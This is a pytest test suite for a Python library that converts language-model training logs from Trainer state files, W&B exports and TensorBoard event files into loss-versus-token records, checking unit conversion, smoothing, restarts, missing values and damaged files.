"""Logs become records, and nothing is dropped, smoothed or converted without a sentence."""

import ast
import gzip
import json
import math
import os
import re
import subprocess
import sys
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

import p2law
from p2law import cli, logs
from p2law.errors import P2LawError, RecordError
from p2law.logs import events, smoothing, tensorboard, thinning, unpacking
from p2law.logs.options import Options
from p2law.logs.units import in_nats

REAL = Path(__file__).parent / "reference" / "logs"
STEP = 128  # tokens, in the runs of `reference/logs`
LOSSES = [3.0, 2.6, 2.4, 2.3]


def said(log, words):
    """Tell whether the account of a log holds some words."""
    return any(words in note for note in log.notes)


def state(folder, entries, **more):
    """Write a trainer_state.json."""
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / "trainer_state.json"
    path.write_text(json.dumps({"log_history": entries, **more}, indent=2))
    return path


def evaluated(losses, every=100, name="eval_loss"):
    """Entries of a log with one evaluation every so many steps."""
    return [{"step": every * (k + 1), name: loss} for k, loss in enumerate(losses)]


def table(folder, text, name="curve.csv"):
    """Write a table."""
    path = folder / name
    path.write_text(text)
    return path


def refusal(read, *args, **how):
    """The error with which a log is refused."""
    with pytest.raises(RecordError) as error:
        read(*args, **how)
    return error.value


def refused_state(folder, entries, **how):
    """The error with which a Trainer's log is refused."""
    how = {"loss": "eval", "tokens_per_step": 1000} | how
    return refusal(logs.read_trainer_state, state(folder, entries), **how)


# -- the logs of real runs -----------------------------------------------------------


def test_a_real_trainers_evaluations_become_records():
    """
    A folder gives the state that went furthest; the evaluation repeated at the restart is merged.
    """
    log = logs.read_trainer_state(REAL / "trainer", loss="eval", tokens_per_step=STEP)

    assert [0, 1280, 2560, 3840, 5120, 6400, 7680] == log.records["tokens"].tolist()
    assert {"trainer"} == set(log.records["run"])
    assert said(log, "the one of 2 states that went furthest")
    assert said(log, "1 row merged: an earlier step has the same loss")
    assert said(log, "tokens = step x 128")
    assert list(log.notes) == log.records.attrs["p2law"]


def test_a_real_trainers_train_loss_stands_where_its_mean_belongs():
    """
    Trainer logs means over the steps since the log before. Put in the middle of them, the
    train loss of a model that sees everything once lies on the curve of its evaluations.
    """

    def distance(**how):
        log = logs.read_trainer_state(
            REAL / "trainer", loss="train", tokens_per_step=STEP, **how
        ).records
        evaluations = logs.read_trainer_state(
            REAL / "trainer", loss="eval", tokens_per_step=STEP
        ).records
        at_evaluations = np.interp(log["tokens"], evaluations["tokens"], evaluations["loss"])
        return float(np.abs(log["loss"] - at_evaluations).mean())

    assert distance() < 0.05
    assert 2 * distance() < distance(averaged=False)


def test_the_mean_over_a_whole_run_is_no_train_loss_at_its_end(tmp_path):
    """
    A Trainer that never logged its loss has none; the mean is taken where it is named, and said.
    """
    entries = [*evaluated([2.9, 2.6, 2.4]), {"step": 300, "train_loss": 3.3, "total_flos": 1.0}]
    words = "train_loss is the mean over the whole run, which a Trainer logs at its end"

    error = str(refused_state(tmp_path, entries, loss="train"))
    named = logs.read_trainer_state(
        state(tmp_path, entries), loss="train_loss", tokens_per_step=1000
    )

    assert "holds no train loss; it holds 'eval_loss'; name one of these" in error
    assert words in error
    assert [3.3] == named.records["loss"].tolist()
    assert said(named, words)


def test_the_first_mean_of_a_trainer_is_over_the_models_before_its_steps():
    """
    The loss of step 1 is that of the untrained model: steps 1 to 5 see 0 to 4 steps' tokens.
    """
    log = logs.read_trainer_state(REAL / "trainer", loss="train", tokens_per_step=STEP)

    assert [2 * STEP, 7 * STEP, 12 * STEP] == log.records["tokens"].tolist()[:3]
    assert said(log, "mean over the steps since the one before")


def test_a_mean_at_the_start_of_a_log_is_over_no_more_steps_than_the_next(tmp_path):
    """
    A log may begin in the middle of a run, or with its very first step.
    """

    def tokens(*steps):
        entries = [{"step": step, "loss": 3.0 - step / 1e5} for step in steps]
        path = state(tmp_path, entries)
        log = logs.read_trainer_state(path, loss="train", tokens_per_step=1000)
        return log.records["tokens"].tolist()

    assert [4_994_500, 5_004_500] == tokens(5000, 5010)
    assert [0, 5000, 14_500] == tokens(1, 10, 20)


def test_tokens_that_a_trainer_counted_are_taken():
    """
    With include_num_input_tokens_seen no tokens per step are needed.
    """
    log = logs.read_trainer_state(REAL / "two_texts", loss="eval_wiki_loss")

    assert 7680 == log.records["tokens"].iloc[-1]
    assert {"wiki"} == set(log.records["eval_text"])
    assert said(log, "tokens as logged")
    assert said(log, "eval_text is 'wiki', by the name of the loss")


def test_several_evaluation_sets_are_not_mixed():
    """
    Which of two texts is meant must be said.
    """
    error = refusal(logs.read_trainer_state, REAL / "two_texts", loss="eval")

    assert "several eval losses: 'eval_wiki_loss', 'eval_code_loss'; name one" in str(error)


def test_all_formats_of_one_run_give_the_same_records():
    """
    The Trainer's file, the panel, the history and the event files tell one curve.
    """
    how = {"loss": "eval", "tokens_per_step": STEP}
    first = logs.read_trainer_state(REAL / "trainer", **how).records
    others = [
        logs.read_wandb(REAL / "wandb" / "panel.csv", **how),
        logs.read_wandb(REAL / "wandb" / "history.csv", **how),
        logs.read_tensorboard(REAL / "tensorboard" / "one", **how),
    ]

    for log in others:
        assert first["tokens"].tolist() == log.records["tokens"].tolist()
        np.testing.assert_allclose(log.records["loss"], first["loss"], rtol=1e-7)  # float32


def test_the_step_of_wandb_is_not_that_of_the_trainer():
    """
    The history has both; the trainer's is taken. Where only W&B's own is there, it is said.
    """
    history = pd.read_csv(REAL / "wandb" / "history.csv")
    log = logs.read_wandb(REAL / "wandb" / "history.csv", loss="eval", tokens_per_step=STEP)

    assert history["_step"].max() < log.records["step"].max() == 60
    assert not said(log, "wandb.log")


def test_tensorboards_own_reader_agrees():
    """
    Where TensorBoard is installed, it reads the same numbers.
    """
    accumulator = pytest.importorskip(
        "tensorboard.backend.event_processing.event_accumulator",
        reason="tensorboard is not installed",
    )
    folder = REAL / "tensorboard" / "one"
    theirs = accumulator.EventAccumulator(str(folder), size_guidance={"scalars": 0})
    theirs.Reload()
    ours = [
        scalar
        for path in sorted(folder.iterdir())
        for scalar in events.scalars(path.read_bytes())[0]
    ]

    for tag in theirs.Tags()["scalars"]:
        expected = [(each.step, each.value) for each in theirs.Scalars(tag)]
        assert expected == [(each.step, each.value) for each in ours if each.tag == tag]


def test_a_folder_of_runs_gives_each_of_them():
    """
    A run is a folder of event files; TensorFlow 2's way of writing scalars is read too.
    """
    log = logs.read_tensorboard(
        REAL / "tensorboard", loss="eval", tokens_per_step=STEP, missing="leave out"
    )
    tf2 = log.records[log.records["run"] == "tf2"]

    assert ["nan", "one", "tf2"] == log.records["run"].unique().tolist()
    np.testing.assert_allclose(tf2["loss"], 3 / np.sqrt([10, 20, 30]), rtol=1e-7)
    assert said(log, "nan: 1 of 3 losses are no number and were left out: record 2")


# -- what is asked for ---------------------------------------------------------------


def test_a_loss_that_is_not_there_is_answered_with_those_that_are(tmp_path):
    """
    The message lists the losses of the log.
    """
    error = refused_state(tmp_path, evaluated(LOSSES), loss="train")

    assert "holds no train loss; it holds 'eval_loss'" in str(error)


def test_tokens_per_step_are_asked_for_with_the_way_to_them(tmp_path):
    """
    A log of steps alone cannot give tokens; what it knows of the batch is said.
    """
    path = state(tmp_path, evaluated(LOSSES), train_batch_size=8)

    error = refusal(logs.read_trainer_state, path, loss="eval")

    assert "pass tokens_per_step= (sequence length x batch x" in str(error)
    assert "this run had 8 sequences a device" in str(error)


def test_two_counts_of_tokens_that_differ_are_said(tmp_path):
    """
    Tokens per step go before, but not in silence.
    """
    entries = [
        {**each, "num_input_tokens_seen": 900.0 * each["step"]} for each in evaluated(LOSSES)
    ]
    log = logs.read_trainer_state(state(tmp_path, entries), loss="eval", tokens_per_step=1000)

    assert 400_000 == log.records["tokens"].iloc[-1]
    assert said(log, "the log counts 360000 tokens at entry 3, tokens_per_step 400000")


@pytest.mark.parametrize(
    ("how", "words"),
    [
        ({"unit": "nats"}, "unit is one of 'nat', 'bit', 'perplexity', 'bit/byte'; got 'nats'"),
        ({"unit": "bit/byte"}, "unit='bit/byte' and bytes_per_token= go together"),
        ({"tokens_per_step": 0}, "tokens_per_step is a number above 0, got 0"),
        ({"tokens_per_step": True}, "tokens_per_step is a number above 0, got True"),
        ({"drop_first": -1}, "drop_first is a number of at least 0, got -1"),
        ({"thin": 1}, "thin is a whole number of rows, at least 2"),
        ({"smooth": math.nan}, "smooth is a number above 0, got nan"),
        ({"repeats": "first"}, "repeats is one of 'refuse', 'last'; got 'first'"),
        ({"missing": None}, "missing is one of 'refuse', 'leave out'; got None"),
        ({"averaged": "no"}, "averaged is True or False, got 'no' (str)"),
        ({"averaged": 5}, "averaged is True or False, got 5 (int)"),
        ({"partial": "x"}, "partial is True or False, got 'x' (str)"),
        ({"partial": None}, "partial is True or False, got None"),
        ({"loss": 3}, "loss is a name, got 3"),
    ],
    ids=str,
)
def test_options_are_checked_by_name(tmp_path, how, words):
    """
    What is not allowed is answered with what is.
    """
    assert words in str(refused_state(tmp_path, evaluated(LOSSES), **how))


@pytest.mark.parametrize(
    ("how", "words"),
    [
        ({"thn": 3}, "a reader of logs takes no 'thn'; did you mean 'thin'?"),
        ({"fact": {}}, "a reader of logs takes no 'fact'; did you mean 'facts'?"),
        ({"colour": 1}, "a reader of logs takes no 'colour'; there are tokens_per_step, step, "),
    ],
)
@pytest.mark.parametrize("reader", ["wandb", "tensorboard", "trainer_state", "csv"])
def test_a_keyword_that_no_reader_has_is_answered_with_the_nearest(tmp_path, reader, how, words):
    """
    Of every reader, in words.
    """
    path, read = table(tmp_path, "step,loss\n1,2\n"), getattr(logs, f"read_{reader}")
    more = ({"loss": "loss"},) if reader == "csv" else ()

    how = how if more else {"loss": "loss"} | how

    assert str(refusal(read, path, *more, **how)).startswith(words)


def test_the_loss_of_a_mapped_table_stands_in_its_columns(tmp_path):
    """
    Not in a keyword of its own.
    """
    path = table(tmp_path, "step,ppl\n1,2\n")

    error = refusal(logs.read_csv, path, {"step": "step"}, loss="ppl")

    assert "columns= names the loss" in str(error)


def test_steps_and_tokens_that_were_not_named_are_both_read(tmp_path):
    """
    Where both stand there: tokens per step go before, and steps may be left out by their count.
    """
    path = table(tmp_path, "tokens,loss,step\n1e6,3.0,1\n2e6,2.9,2\n")

    counted = logs.read_csv(path, {}, tokens_per_step=5e5)
    logged = logs.read_csv(path, {}, drop_first_steps=2)

    assert [5e5, 1e6] == counted.records["tokens"].tolist()
    assert said(counted, "the log counts 2000000 tokens at line 3, tokens_per_step 1000000")
    assert [2e6] == logged.records["tokens"].tolist()


# -- units, facts, base loss ---------------------------------------------------------


@pytest.mark.parametrize(
    ("unit", "bytes_per_token", "logged"),
    [
        ("nat", None, 2.0),
        ("bit", None, 2.0 / math.log(2)),
        ("perplexity", None, math.exp(2.0)),
        ("bit/byte", 4.0, 0.5 / math.log(2)),
    ],
)
def test_every_unit_becomes_nats_per_token(tmp_path, unit, bytes_per_token, logged):
    """
    One loss of 2 nats per token, written in four units.
    """
    log = logs.read_trainer_state(
        state(tmp_path, evaluated([logged])),
        loss="eval",
        tokens_per_step=1000,
        unit=unit,
        bytes_per_token=bytes_per_token,
    )

    np.testing.assert_allclose(log.records["loss"], [2.0], rtol=1e-12)
    assert said(log, "ln") == (unit != "nat")


@pytest.mark.parametrize(
    ("unit", "bytes_per_token", "account"),
    [
        ("bit", None, "logged bits x ln 2"),
        ("perplexity", None, "ln(logged perplexity)"),
        ("bit/byte", 4.0, "logged bits per byte x ln 2 x 4.0 bytes/token"),
    ],
)
def test_all_losses_of_one_table_are_in_its_unit(tmp_path, unit, bytes_per_token, account):
    """
    The base loss and the train loss of a sheet are converted as its loss is; a gap stays one.
    """
    text = "Btok,now,before,trained\n1,3,2,2.5\n2,2.9,2,\n"
    columns = {
        "tokens": ("Btok", 1e9), "loss": "now", "base_loss": "before", "train_loss": "trained",
    }  # fmt: skip
    asked = Options("loss", unit=unit, bytes_per_token=bytes_per_token)

    log = logs.read_csv(table(tmp_path, text), columns, unit=unit, bytes_per_token=bytes_per_token)

    for name, logged in (("loss", [3, 2.9]), ("base_loss", [2, 2]), ("train_loss", [2.5, np.nan])):
        np.testing.assert_allclose(log.records[name], in_nats(np.array(logged), asked))
    assert said(log, f"loss, base_loss and train_loss = {account}")


def test_a_base_loss_that_is_a_fact_is_in_nats(command, tmp_path):
    """
    A number that is given with the log is no number of the log: its unit is always the nat.
    """
    path = table(tmp_path, "tokens,loss\n1000000,12.5\n", "ppl.csv")

    log = logs.read_csv(path, {}, unit="perplexity", facts={"base_loss": 2.0})
    _, _, _, output = command(path, "--unit", "perplexity", "--base-loss", 2.0)

    assert [2.0] == log.records["base_loss"].tolist() == p2law.load(output)["base_loss"].tolist()
    assert said(log, "loss = ln(logged perplexity)")


def test_a_base_loss_in_nats_beside_perplexities_is_refused_where_it_cannot_be_one(tmp_path):
    """
    The cure is the way by which nats are given.
    """
    path = table(tmp_path, "tokens,loss,base\n1000000,2.5,0.9\n")

    error = refusal(logs.read_csv, path, {"base_loss": "base"}, unit="perplexity")

    assert "line 2: base_loss = 0.9" in str(error)
    assert "these may be nats already (facts={'base_loss': ...} takes nats)" in str(error)


def test_nats_taken_for_perplexity_are_refused(tmp_path):
    """
    A perplexity is above 1.
    """
    error = refused_state(tmp_path, evaluated([1.2, 0.9]), unit="perplexity")

    assert "entry 1 (step 200): loss = 0.9" in str(error)
    assert "these may be nats already (unit='nat')" in str(error)
    assert ["entry 1"] == error.rows


def test_facts_become_columns_for_all_runs_or_each(tmp_path):
    """
    One value for all, or a mapping from runs to values.
    """
    path = table(tmp_path, "global_step,a - eval/loss,b - eval/loss\n100,2.5,2.6\n200,2.4,2.5\n")
    facts = {"params": 1.24e9, "pruning_rate": {"a": 0.25, "b": 0.5}}

    log = logs.read_wandb(path, loss="eval", tokens_per_step=1000, facts=facts)

    assert ["run", "params", "tokens", "pruning_rate", "loss", "step"] == list(log.records.columns)
    assert [0.25, 0.25, 0.5, 0.5] == log.records["pruning_rate"].tolist()


def test_facts_of_ones_own_are_kept(tmp_path):
    """
    A name that stands for nothing else, or beside the one that it might be taken for.
    """
    path = table(tmp_path, "global_step,a - eval/loss\n100,2.5\n")
    facts = {"learning_rate": 1e-4, "pruning_rate": 0.25, "sparsity": 0.3, "k": 3}

    log = logs.read_wandb(path, loss="eval", tokens_per_step=1000, facts=facts)

    assert {*facts} < {*log.records.columns}


@pytest.mark.parametrize(
    ("facts", "words"),
    [
        ({"pruning_rate": {"a": 0.25}}, "is given by run, but not for b; its runs are a, b"),
        ({"pruning_rate": {"a": 0.2, "c": 0.3}}, "but not for b, and for c, which the log does"),
        (
            {"pruning_rate": {"a": 0.2, "b": 0.3, "c": 0.4}},
            "run, but for c, which",
        ),
        ({"loss": 2.0}, "'loss' is in the log already"),
        ({"method": ["depth"]}, "method is one value, or one for each run, got"),
        ({"run": "one"}, "2 runs need a name each, by run: a, b"),
        ({"params": 1.24}, "multiply by 1e9"),
        ([1], "facts is a mapping, as {'params': 1.2e9}, got"),
        ({"prams": 1e9}, "facts hold 'prams': did you mean 'params'?"),
        ({"Pruning_rates": 0.25}, "facts hold 'Pruning_rates': did you mean 'pruning_rate'?"),
        ({"sparsity": 0.25}, "facts hold 'sparsity': did you mean 'pruning_rate'?"),
        ({"metod": "depth"}, "facts hold 'metod': did you mean 'method'?"),
    ],
    ids=str,
)
def test_facts_that_do_not_fit_are_refused(tmp_path, facts, words):
    """
    Facts must be given for the runs that are there, and be records' columns.
    """
    path = table(tmp_path, "global_step,a - eval/loss,b - eval/loss\n100,2.5,2.6\n")

    error = refusal(logs.read_wandb, path, loss="eval", tokens_per_step=1000, facts=facts)

    assert words in str(error)


def test_the_base_loss_is_read_from_the_log_of_the_model_before_pruning():
    """
    Its source stands in the account of the records that it goes into.
    """
    dense = logs.read_trainer_state(REAL / "trainer", loss="eval", tokens_per_step=STEP)

    log = logs.read_trainer_state(
        REAL / "two_texts", loss="eval_wiki_loss", facts={"base_loss": dense.base_loss("last")}
    )

    assert {dense.records["loss"].iloc[-1]} == set(log.records["base_loss"])
    assert said(log, "base_loss 1.412359357 from run trainer, the last loss (7680 tokens)")


def test_which_loss_is_the_base_loss_must_be_said():
    """
    A model that was evaluated, then trained on, has another than one trained to the end.
    """
    dense = logs.read_trainer_state(REAL / "trainer", loss="eval", tokens_per_step=STEP)

    error = refusal(dense.base_loss)

    assert "7 losses; say which is that of the model before pruning: at='first'" in str(error)
    assert dense.records["loss"].iloc[0] == float(dense.base_loss("first"))
    assert "at is 'first' or 'last'" in str(refusal(dense.base_loss, "middle"))


def test_logs_go_together_when_their_runs_have_names_of_their_own():
    """
    Two runs of one name would become one curve.
    """
    how = {"loss": "eval", "tokens_per_step": STEP}
    one = logs.read_trainer_state(REAL / "trainer", **how)
    two = logs.read_trainer_state(REAL / "trainer", **how, facts={"run": "again"})

    both = logs.together([one, two])

    assert ["trainer", "again"] == both.records["run"].unique().tolist()
    assert set(one.notes) | set(two.notes) == set(both.notes)
    assert "two logs hold a run named trainer" in str(refusal(logs.together, [one, one]))
    assert "at least one" in str(refusal(logs.together, []))


# -- repeated, missing, early, many --------------------------------------------------

RESTARTED = [
    *evaluated([3.0, 2.6, 2.4]),
    {"step": 350, "eval_loss": 2.35},
    {"step": 200, "eval_loss": 2.61},
    {"step": 300, "eval_loss": 2.41},
]


def test_repeated_steps_are_refused_by_entry(tmp_path):
    """
    The message names a restart and what can be done.
    """
    error = refused_state(tmp_path, RESTARTED)

    assert ["entry 4", "entry 5"] == error.rows
    assert "entry 4 (step 200): loss = 2.61" in str(error)
    assert "repeats='last' lets the later rows win" in str(error)


def test_after_a_restart_the_later_rows_win_and_lost_ones_go_with_them(tmp_path):
    """
    Step 350 was never reached again: it belongs to the part of the run that was lost.
    """
    log = logs.read_trainer_state(
        state(tmp_path, RESTARTED), loss="eval", tokens_per_step=1000, repeats="last"
    )

    assert [100, 200, 300] == log.records["step"].tolist()
    assert [3.0, 2.61, 2.41] == log.records["loss"].tolist()
    assert said(log, "3 rows left out because the run went back to an earlier step")


def test_token_counts_are_named_as_such(tmp_path):
    """
    Where a log counts tokens and no steps.
    """
    path, columns = table(tmp_path, "n,l\n3e6,2.3\n1e6,2.5\n2e6,2.4\n2e6,2.4\n"), {"tokens": "n"}
    columns["loss"] = "l"

    log = logs.read_csv(path, columns)
    twice = table(tmp_path, "n,l\n1e6,2.5\n1e6,2.4\n", "twice.csv")
    error = refusal(logs.read_csv, twice, columns)
    later = logs.read_csv(twice, columns, repeats="last")

    assert said(log, "1 row merged: an earlier token count has the same loss")
    assert said(log, "1 row put in order: token counts went back")
    assert "at a token count that came before with another" in str(error)
    assert said(later, "went back to an earlier token count")


@pytest.mark.parametrize("bad", ["NaN", '"NaN"', "null", "Infinity", "-Infinity"])
def test_losses_that_are_no_number_are_refused_or_left_out(tmp_path, bad):
    """
    However JSON spells them.
    """
    sound = '{"step": 1000, "eval_loss": 2.5}'
    text = f'{{"log_history": [{sound}, {{"step": 2000, "eval_loss": {bad}}}]}}'
    path = table(tmp_path, text, "trainer_state.json")
    how = {"loss": "eval", "tokens_per_step": 1000}

    error = refusal(logs.read_trainer_state, path, **how)
    log = logs.read_trainer_state(path, **how, missing="leave out")

    assert ["entry 1"] == error.rows
    assert "missing='leave out' leaves such rows out" in str(error)
    assert [2.5] == log.records["loss"].tolist()
    assert said(log, "1 of 2 losses are no number and were left out: entry 1")


def test_text_in_place_of_a_loss_is_refused_by_entry(tmp_path):
    """
    It is not taken for a missing one.
    """
    entries = [*evaluated([2.5]), {"step": 200, "eval_loss": "low"}]

    error = refused_state(tmp_path, entries, missing="leave out")

    assert "entry 1 of log_history: eval_loss = 'low' is not a number" in str(error)
    assert "1 entries with a loss before it can be read: partial=True" in str(error)
    assert ["entry 1"] == error.rows
    how = {"loss": "eval", "tokens_per_step": 1000}
    log = logs.read_trainer_state(state(tmp_path, entries), **how, partial=True)
    assert [2.5] == log.records["loss"].tolist()
    assert said(log, "damaged: ")


def test_averages_in_place_of_nan_are_warned_of(tmp_path):
    """
    A gradient that is no number betrays a loss that a Trainer replaced.
    """
    entries = [
        {"step": 10, "loss": 3.0, "grad_norm": 1.0},
        {"step": 20, "loss": 2.9, "grad_norm": math.nan},
    ]
    log = logs.read_trainer_state(state(tmp_path, entries), loss="train", tokens_per_step=1000)

    assert said(log, "the gradient was no number at step 20")
    assert said(log, "logging_nan_inf_filter")


def test_a_loss_of_zero_is_named_for_what_it_is(tmp_path):
    """
    Trainers log 0 where every loss since the log before was NaN.
    """
    assert "in place of NaN" in str(refused_state(tmp_path, evaluated([2.5, 0.0])))


def test_warm_up_rows_are_left_out_by_tokens_or_steps_and_counted(tmp_path):
    """
    The first rows go; if all would go, it is an error.
    """
    path = state(tmp_path, evaluated(LOSSES))
    how = {"loss": "eval", "tokens_per_step": 1000}

    by_tokens = logs.read_trainer_state(path, **how, drop_first=150_000)
    by_steps = logs.read_trainer_state(path, **how, drop_first_steps=201)
    error = refusal(logs.read_trainer_state, path, **how, drop_first=1e9)

    assert LOSSES[1:] == by_tokens.records["loss"].tolist()
    assert said(by_tokens, "1 of 4 rows before 150000 tokens left out (warm-up)")
    assert LOSSES[2:] == by_steps.records["loss"].tolist()
    assert said(by_steps, "2 of 4 rows before step 201 left out (warm-up)")
    assert "all 4 rows lie before 1000000000 tokens, the last at 400000" in str(error)


@given(
    steps=st.lists(st.integers(0, 10**12), min_size=1, max_size=300, unique=True),
    most=st.integers(2, 50),
)
def test_thinning_keeps_first_and_last_and_no_more_than_asked(steps, most):
    """
    Whatever the rows.
    """
    tokens = np.sort(np.array(steps, dtype=float))

    rows = thinning.thinned(tokens, most)

    assert len(rows) <= min(most, len(tokens))
    assert (np.diff(rows) > 0).all()
    assert (0, len(tokens) - 1) == (rows[0], rows[-1])


def test_thinning_is_even_in_log_tokens():
    """
    A densely logged run keeps about one row per equal factor.
    """
    tokens = np.arange(1.0, 100_001)

    kept = np.log10(tokens[thinning.thinned(tokens, 6)])

    np.testing.assert_allclose(kept, [0, 1, 2, 3, 4, 5], atol=1e-3)


# -- smoothing -----------------------------------------------------------------------


def test_smoothing_does_not_lag_behind_a_falling_loss():
    """
    On a power law without noise the smooth curve is off by its curvature alone, as theory
    has it (half of it times the variance of the weights), and a running mean by far more.
    """
    tokens = np.linspace(1e6, 1e8, 2000)
    losses = 2 + 300 * tokens**-0.4
    rows = np.arange(len(tokens))

    smooth, done = smoothing.smoothed(tokens, losses, rows, 0.2)
    past = pd.Series(losses).rolling(100, min_periods=1).mean().to_numpy()

    curvature = 0.4**2 * 300 * tokens**-0.4
    assert (np.abs(smooth - losses) < 1.05 * curvature / 2 * np.log(1.2) ** 2 / 5).all()
    assert np.abs(past - losses).max() > 20 * np.abs(smooth - losses).max()
    assert done[500:].all()


def test_smoothing_takes_noise_away():
    """
    Noise shrinks by about the root of the rows that share in a line.
    """
    rng = np.random.default_rng(0)
    tokens = np.linspace(1e7, 1e8, 4000)
    truth = 2 + 300 * tokens**-0.4

    smooth, _ = smoothing.smoothed(
        tokens, truth + rng.normal(0, 0.05, 4000), np.arange(400, 3600, 100), 0.1
    )

    assert np.std(smooth - truth[400:3600:100]) < 0.006


def test_smoothing_is_stated_and_uses_rows_that_are_thinned_away(tmp_path):
    """
    The first rows of a run, few to a factor, stay as they were logged, and this is counted.
    """
    rng = np.random.default_rng(1)
    losses = 2 + 3 * np.arange(1, 1001) ** -0.5 + rng.normal(0, 0.05, 1000)
    path = state(tmp_path, evaluated(losses.tolist(), every=1, name="loss"))

    log = logs.read_trainer_state(path, loss="train", tokens_per_step=1000, smooth=0.2, thin=12)

    truth = 2 + 3 * (log.records["step"]) ** -0.5
    assert 12 >= len(log.records)
    assert np.abs(log.records["loss"] - truth).iloc[-3:].max() < 0.02
    assert said(log, "local straight line in log tokens through the rows within a factor 1.2")
    assert said(log, "rows with fewer than 4 rows around are as logged")
    assert said(log, "thinned from 1000 to")


# -- damage --------------------------------------------------------------------------


@pytest.mark.parametrize("at", [0.3, 0.6, 0.9])
def test_a_cut_state_is_refused_or_read_in_part(tmp_path, at):
    """
    Wherever it was cut.
    """
    whole = state(tmp_path, evaluated(np.linspace(3, 2, 50).tolist())).read_text()
    path = table(tmp_path, whole[: int(at * len(whole))], "trainer_state.json")
    how = {"loss": "eval", "tokens_per_step": 1000}

    error = refusal(logs.read_trainer_state, path, **how)
    log = logs.read_trainer_state(path, **how, partial=True)

    assert "is not whole JSON" in str(error)
    assert "line " in str(error)
    assert f"{len(log.records)} entries of log_history before it can be read" in str(error)
    assert said(log, "damaged")
    np.testing.assert_allclose(log.records["loss"], np.linspace(3, 2, 50)[: len(log.records)])


@pytest.mark.parametrize(
    ("content", "words"),
    [
        ("", "is not whole JSON"),
        ("[]", "has no list log_history"),
        ('{"log_history": {}}', "has no list log_history"),
        ('{"log_history": []}', "log_history is empty"),
        ('{"log_history": [3]}', "entry 0 of log_history is no object with step"),
        ("[" * 100_000, "is not whole JSON"),
    ],
    ids=["empty", "list", "object", "nothing", "number", "deep"],
)
def test_what_is_no_state_is_refused(tmp_path, content, words):
    """
    Each with its own words.
    """
    path = table(tmp_path, content, "trainer_state.json")

    error = refusal(logs.read_trainer_state, path, loss="eval", tokens_per_step=1000)

    assert words in str(error)


def test_a_cut_event_file_is_refused_with_the_record(tmp_path):
    """
    TensorBoard's own reader would stop there without a word.
    """
    content = (REAL / "tensorboard" / "tf2" / "events.out.tfevents.3").read_bytes()
    path = tmp_path / "events.out.tfevents.1"
    path.write_bytes(content[:-5])
    how = {"loss": "eval", "tokens_per_step": STEP}

    error = refusal(logs.read_tensorboard, path, **how)
    log = logs.read_tensorboard(path, **how, partial=True)

    assert "record 3 is cut short" in str(error)
    assert "2 scalars before it can be read: partial=True" in str(error)
    assert [10, 20] == log.records["step"].tolist()


def test_a_changed_byte_in_an_event_file_is_found(tmp_path):
    """
    Every record has a checksum, and it is looked at.
    """
    content = bytearray((REAL / "tensorboard" / "tf2" / "events.out.tfevents.3").read_bytes())
    content[-8] ^= 1
    path = tmp_path / "events.out.tfevents.1"
    path.write_bytes(content)

    error = refusal(logs.read_tensorboard, path, loss="eval", tokens_per_step=STEP)

    assert "record 3 is damaged: its checksum differs" in str(error)


def test_a_folder_without_logs_is_refused(tmp_path):
    """
    With what was looked for.
    """
    how = {"loss": "eval", "tokens_per_step": 1}

    assert "no trainer_state.json here" in str(refusal(logs.read_trainer_state, tmp_path, **how))
    assert "no event files" in str(refusal(logs.read_tensorboard, tmp_path, **how))
    assert "no such file" in str(refusal(logs.read_wandb, tmp_path / "none.csv", **how))
    assert "cannot be read" in str(refusal(logs.read_wandb, tmp_path, **how))


def test_the_states_of_a_folder_are_compared_by_their_steps(tmp_path):
    """
    Checkpoint 1000 is newer than 200, and a state beside them may be newer still.
    """
    state(tmp_path / "checkpoint-200", evaluated([3.0]), global_step=200)
    state(tmp_path / "checkpoint-1000", evaluated([3.0, 2.5]), global_step=1000)
    (tmp_path / "checkpoint-2000").mkdir()
    how = {"loss": "eval", "tokens_per_step": 1000}

    assert 2 == len(logs.read_trainer_state(tmp_path, **how).records)
    state(tmp_path, evaluated([3.0, 2.5, 2.4]), global_step=1000)
    assert 3 == len(logs.read_trainer_state(tmp_path, **how).records)
    state(tmp_path, evaluated([3.0]), global_step=100)
    assert 2 == len(logs.read_trainer_state(tmp_path, **how).records)


def test_a_state_of_a_run_that_was_given_up_is_not_taken_for_the_run(tmp_path):
    """
    A run went to step 400, was taken up again at 100 and ended at 300: which is meant must be said.
    """
    old = state(tmp_path / "checkpoint-400", evaluated([3.0, 2.6, 2.4, 2.3]), global_step=400)
    new = state(tmp_path, evaluated([3.0, 2.5, 2.2]), global_step=300)
    how = {"loss": "eval", "tokens_per_step": 1000}

    error = refusal(logs.read_trainer_state, tmp_path, **how)

    assert f"{old} and {new} tell of two runs: at step 200 eval_loss is 2.6 and 2.5" in str(error)
    assert "name the file that is meant" in str(error)
    assert [3.0, 2.5, 2.2] == logs.read_trainer_state(new, **how).records["loss"].tolist()


def test_states_that_hold_the_same_or_nothing_are_no_two_runs(tmp_path):
    """
    NaN is NaN, and a damaged state beside the one that is read says nothing of it.
    """
    whole = [*evaluated([3.0, math.nan]), {"step": 300, "eval_loss": 2.4}]
    state(tmp_path / "checkpoint-200", whole[:2], global_step=200)
    (tmp_path / "checkpoint-100").mkdir()
    table(tmp_path / "checkpoint-100", "no JSON", "trainer_state.json")
    state(tmp_path / "checkpoint-300", whole, global_step=300)

    log = logs.read_trainer_state(tmp_path, loss="eval", tokens_per_step=1000, missing="leave out")

    assert [3.0, 2.4] == log.records["loss"].tolist()
    assert said(log, "the one of 3 states that went furthest")


# -- tables --------------------------------------------------------------------------


def test_steps_whose_tokens_are_beyond_all_numbers_are_refused(tmp_path):
    """
    The line is named, and what the step was multiplied by.
    """
    path = table(tmp_path, "train/global_step,a - eval/loss\n40,1.5\n1e308,1.4\n")

    error = refusal(logs.read_wandb, path, loss="eval", tokens_per_step=128)

    assert "1 of 2 rows have step beyond all counts" in str(error)
    assert "line 3 (step 1e+308): step = 1e+308" in str(error)
    assert "at 128 tokens per step no tokens are left to count" in str(error)


def test_a_panel_whose_axis_is_neither_steps_nor_tokens_is_refused(tmp_path):
    """
    Epochs and times are no tokens; the run's own step is taken where the panel has it.
    """
    alone = table(tmp_path, "epoch,a - loss\n0.1,2.5\n", "alone.csv")
    beside = table(tmp_path, "epoch,a - _step,a - loss\n0.1,100,2.5\n", "beside.csv")
    how = {"loss": "train", "tokens_per_step": 1000}

    assert "x axis is 'epoch', neither steps nor tokens" in str(
        refusal(logs.read_wandb, alone, **how)
    )
    log = logs.read_wandb(beside, **how)
    assert [100_000] == log.records["tokens"].tolist()
    assert said(log, "counts calls of wandb.log")


